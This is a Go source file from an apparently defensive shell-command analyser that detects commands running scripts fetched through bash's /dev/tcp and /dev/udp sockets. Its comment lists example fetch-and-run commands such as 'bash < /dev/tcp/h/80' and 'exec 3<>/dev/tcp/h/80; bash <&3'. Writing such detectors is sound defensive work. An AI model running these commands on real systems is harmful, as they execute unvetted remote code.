package patterns

import (
	"fmt"
	"strings"
)

// Bash opens /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT itself, so a shell
// or an interpreter whose script is such a path, or whose standard input
// is redirected from one, runs a script it fetches from the network with
// no downloader in the line (rt41 §1): `bash < /dev/tcp/h/80`, `bash -s <
// /dev/tcp/h/80`, `python3 < /dev/tcp/h/80`, `bash /dev/tcp/h/80`, `perl
// /dev/tcp/h/80`, `source /dev/tcp/h/80`, `. /dev/tcp/h/80`. Such a part
// is unreadable as a shell fed from a pipe is, and its Unreadable names
// cmd.download-run (read_fetchrun.go), as `cat < /dev/tcp/h/80 | sh` and
// `exec 3<>/dev/tcp/h/80; bash <&3` already were. A program that only
// reads the socket (`cat < /dev/tcp/localhost/8080`) runs nothing and is
// left as it was.

// isSocketPath reports whether a file name (or its literal start, as in
// /dev/tcp/$HOST/80) is one of bash's network socket paths.
func isSocketPath(s string) bool {
	return strings.HasPrefix(s, "/dev/tcp/") || strings.HasPrefix(s, "/dev/udp/")
}

// socketWord reports whether w names a network socket path.
func socketWord(w Word) bool {
	lit, _ := litPrefix(w)
	return isSocketPath(lit)
}

// socketStdin returns the redirection that feeds p's standard input from
// a network socket, or nil.
func socketStdin(p *Part) *Redir {
	for i := range p.Redirs {
		rd := &p.Redirs[i]
		if (rd.Op == "<" || rd.Op == "<>") && (rd.Fd == "" || rd.Fd == "0") && socketWord(rd.Target) {
			return rd
		}
	}
	return nil
}

// socketScript marks p (who names it in the sentence) unreadable when the
// script it runs is the network socket w names, and names download-run.
func (r *reading) socketScript(p *Part, w Word, who string) []*Node {
	n := r.unreadable(p, UnreadablePipeShell, w.Span, fmt.Sprintf(
		"%s runs the script it reads from the network socket %s, fetched when it runs; it is not read as a command here.",
		who, quoteRaw(w.Raw)))
	if u := p.Unreadable; u != nil && u.Code == UnreadablePipeShell && u.names == "" {
		u.names = floorNamer
	}
	return []*Node{n}
}
